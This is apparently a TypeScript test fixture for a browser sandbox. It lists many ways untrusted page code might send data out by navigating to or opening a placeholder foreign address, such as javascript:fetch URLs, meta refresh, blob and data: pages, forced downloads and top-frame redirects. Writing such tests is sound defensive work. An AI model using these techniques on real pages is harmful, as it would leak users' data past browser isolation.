// Attempts to send something away by going to another address, or by opening one.
import { connects, leaves, markup, script, type Targets } from './attempt.js';

const goes = { ...connects, ...leaves };

export const leaving = [
  script('form', ({ own }) => {
    const form = Object.assign(document.createElement('form'), { action: `${own}?form` });
    document.body.append(form);
    form.submit();
  }),
  script(
    'form to a new tab',
    ({ foreign }) => {
      const form = Object.assign(document.createElement('form'), { action: foreign });
      form.target = '_blank';
      document.body.append(form);
      form.submit();
    },
    connects,
  ),
  script('window.open', ({ foreign }) => window.open(`${foreign}?open`)),
  script('window.open, then its address', ({ foreign }) => {
    window.open()!.location.href = `${foreign}?opened`;
  }),
  script('a second tab of the page', ({ own }) => window.open(own)),
  ...['_self', '_top', '_parent', '_blank'].map((target) =>
    script(
      `link to ${target}`,
      Function(
        'to',
        `const a = document.createElement('a');
        a.href = to.foreign + '?link'; a.target = '${target}';
        document.body.append(a); a.click();`,
      ) as (to: Targets) => unknown,
      target === '_self' ? goes : connects,
    ),
  ),
  script(
    'download, foreign',
    ({ foreign }) => {
      const link = Object.assign(document.createElement('a'), { href: foreign, download: 'x' });
      document.body.append(link);
      link.click();
    },
    connects,
  ),
  script('download, own server', ({ own }) => {
    const link = Object.assign(document.createElement('a'), { href: `${own}?x`, download: 'x' });
    document.body.append(link);
    link.click();
  }),
  script('location', ({ foreign }) => location.assign(`${foreign}?leave`), goes),
  script('location, own server', ({ own }) => location.assign(`${own}?leave`), leaves),
  script(
    'location, where preventDefault does nothing',
    ({ foreign }) => {
      Event.prototype.preventDefault = () => undefined;
      location.assign(`${foreign}?leave`);
    },
    goes,
  ),
  script('top.location', ({ foreign }) => (top!.location.href = `${foreign}?top`)),
  script('top.location, a script', ({ foreign }) => {
    top!.location.href = `javascript:fetch(${JSON.stringify(foreign)})`;
  }),
  markup('meta refresh', '<meta http-equiv="refresh" content="0;url=FOREIGN?refresh">', goes),
  script(
    'pushState and reload',
    ({ own }) => {
      try {
        history.pushState(null, '', `${own}?pushed`);
      } finally {
        location.reload();
      }
    },
    leaves,
  ),
  script(
    'cookie and reload',
    () => {
      try {
        document.cookie = 'stolen=1';
      } finally {
        location.reload();
      }
    },
    leaves,
  ),
  script(
    'location, a page in memory with a refresh',
    ({ foreign }) => {
      const html = `<meta http-equiv="refresh" content="0;url=${foreign}?memory">`;
      location.href = URL.createObjectURL(new Blob([html], { type: 'text/html' }));
    },
    goes,
  ),
  script(
    'location, a data: page',
    ({ foreign }) => {
      location.href = `data:text/html,<img src="${foreign}?data">`;
    },
    leaves,
  ),
  script('location, a script', ({ foreign }) => {
    location.href = `javascript:fetch(${JSON.stringify(foreign)})`;
  }),
  script('mailto', () => (location.href = 'mailto:x@example.org?body=x'), leaves),
  script('a scheme of another program', () => (location.href = 'eegate-other:x'), leaves),
  script(
    'many navigations',
    ({ foreign }) => {
      for (let i = 0; i < 30; i++) location.href = `${foreign}?${i}`;
    },
    goes,
  ),
];
